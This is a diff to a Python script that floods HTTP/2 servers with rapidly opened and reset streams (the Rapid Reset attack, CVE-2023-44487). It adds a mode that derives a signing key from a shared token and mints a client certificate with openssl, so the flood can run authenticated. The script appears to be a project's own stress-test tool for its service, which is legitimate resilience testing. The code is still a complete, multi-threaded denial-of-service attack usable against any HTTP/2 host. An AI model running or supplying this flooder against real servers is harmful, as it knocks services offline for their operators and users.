@@ -3,20 +3,28 @@
 # SPDX-FileCopyrightText: The hlaunch authors
 """An attacker of HTTP/2 servers: opens and resets streams as fast as it can (CVE-2023-44487).
 
-    rapid_reset.py HOST PORT SECONDS clear|NAME
+    rapid_reset.py HOST PORT SECONDS clear|NAME|token
 
-In clear, or over TLS without a certificate, where NAME is what it asks for. Connects anew where it is
-closed. Prints how many connections it made and how many streams it opened and reset.
+In clear, or over TLS without a certificate, where NAME is what it asks for; or as a holder of the
+token in HLAUNCH_TOKEN. Connects anew where it is closed. Prints how many connections it made and how
+many streams it opened and reset.
 """
 
+import hashlib
+import hmac
+import os
+import pathlib
 import socket
 import ssl
 import struct
+import subprocess
 import sys
+import tempfile
 import threading
 import time
 
 CONNECTIONS = 6
+ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # Of P-256.
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 # :method POST, :scheme http, :path and :authority as literals that are not indexed (RFC 7541).
 REQUEST = b"\x83\x86\x04\x10/hlaunch.v1.Rend\x01\x01a"
@@ -31,20 +39,67 @@ def streams(first, count):
                     for stream in range(first, first + 2 * count, 2))
 
 
-def connect(host, port, name):
-    connection = socket.create_connection((host, port), timeout=5)
+def derive(token, label, size):
+    """HKDF with SHA-256 (RFC 5869), as rendezvous/trust uses it."""
+    key = hmac.digest(b"hlaunch token v1", token.encode(), hashlib.sha256)
+    derived = block = b""
+    while len(derived) < size:
+        block = hmac.digest(key, block + label + bytes([len(derived) // 32 + 1]), hashlib.sha256)
+        derived += block
+    return derived[:size]
+
+
+def openssl(*words, text=b""):
+    subprocess.run(["openssl", *words], input=text, check=True, stderr=subprocess.PIPE)
+
+
+def show_certificate(context, token, name):
+    """Gives `context` what a holder of the token makes for itself."""
+    number = int.from_bytes(derive(token, b"authority p-256", 48), "big") % (ORDER - 1) + 1
+    # ECPrivateKey of RFC 5915 without a public key, which OpenSSL computes.
+    signer = bytes.fromhex("30310201010420") + number.to_bytes(32, "big") + bytes.fromhex(
+        "a00a06082a8648ce3d030107")
+    with tempfile.TemporaryDirectory() as folder:
+        at = pathlib.Path(folder)
+        (at / "extensions").write_text(
+            "basicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature\n"
+            f"extendedKeyUsage=clientAuth\nsubjectAltName=DNS:{name}\n", encoding="ascii")
+        openssl("ec", "-inform", "DER", "-out", at / "signer", text=signer)
+        openssl("req", "-x509", "-new", "-key", at / "signer", "-subj", "/CN=hlaunch job",
+                "-out", at / "authority")
+        openssl("req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+                "-keyout", at / "key", "-subj", "/CN=hlaunch", "-out", at / "request")
+        openssl("x509", "-req", "-in", at / "request", "-CA", at / "authority", "-CAkey",
+                at / "signer", "-set_serial", "1", "-extfile", at / "extensions", "-out", at / "leaf")
+        context.load_cert_chain(at / "leaf", at / "key")
+
+
+def tls(name):
+    """What to ask for, and with what; None in clear."""
     if name == "clear":
-        return connection
+        return None
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     context.set_alpn_protocols(["h2"])
+    if name == "token":
+        token = os.environ["HLAUNCH_TOKEN"]
+        name = derive(token, b"server name", 16).hex() + ".hlaunch"
+        show_certificate(context, token, name)
+    return name, context
+
+
+def connect(host, port, secured):
+    connection = socket.create_connection((host, port), timeout=5)
+    if secured is None:
+        return connection
+    name, context = secured
     return context.wrap_socket(connection, server_hostname=name)
 
 
-def attack(host, port, name, until, counts):
+def attack(host, port, secured, until, counts):
     while time.monotonic() < until:
         try:
-            with connect(host, port, name) as connection:
+            with connect(host, port, secured) as connection:
                 counts["connections"] += 1
                 connection.sendall(PREFACE + frame(4, 0, 0))
                 for first in range(1, 1 << 30, 200):
@@ -59,8 +114,9 @@ def attack(host, port, name, until, counts):
 def main():
     host, port, seconds, name = sys.argv[1:]
     until = time.monotonic() + float(seconds)
+    secured = tls(name)
     counts = {"connections": 0, "streams": 0, "refused": 0}
-    threads = [threading.Thread(target=attack, args=(host, int(port), name, until, counts))
+    threads = [threading.Thread(target=attack, args=(host, int(port), secured, until, counts))
                for _ in range(CONNECTIONS)]
     for thread in threads:
         thread.start()
